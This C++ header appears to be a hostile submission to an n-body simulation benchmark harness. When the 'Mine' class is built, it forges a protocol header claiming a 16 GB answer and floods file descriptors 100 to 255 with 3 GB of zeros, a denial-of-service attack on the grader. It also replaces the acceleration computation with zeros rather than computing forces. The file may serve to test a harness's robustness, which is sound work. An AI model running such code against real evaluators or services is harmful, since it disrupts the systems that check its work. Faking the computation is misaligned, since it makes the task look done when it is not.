// Announces an answer of 16 GB and sends 3 GB of it.
#pragma once

#include <unistd.h>

#include <cstdint>
#include <cstring>
#include <string>

#include "naive.hpp"

namespace nbody {

// Header: magic, version, kind (2: an answer), id, bytes of the payload.
inline bool attack() {
  std::string head = "NBODYLAB" + std::string(24, '\0');
  const std::uint32_t words[] = {2, 2};
  const std::uint64_t size[] = {1, std::uint64_t{1} << 34};
  std::memcpy(head.data() + 8, words, sizeof words);
  std::memcpy(head.data() + 16, size, sizeof size);
  const std::string block(1 << 20, '\0');
  for (int channel = 100; channel < 256; ++channel) {
    if (::write(channel, head.data(), head.size()) < 0) continue;
    for (int k = 0; k < 3072; ++k) {
      if (::write(channel, block.data(), block.size()) < 0) break;
    }
  }
  return true;
}

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    [[maybe_unused]] static const bool worked = attack();
  }
  void compute_accelerations() override {
    for (auto& body : bodies) body.ax = body.ay = body.az = 0;
  }
};

}  // namespace nbody
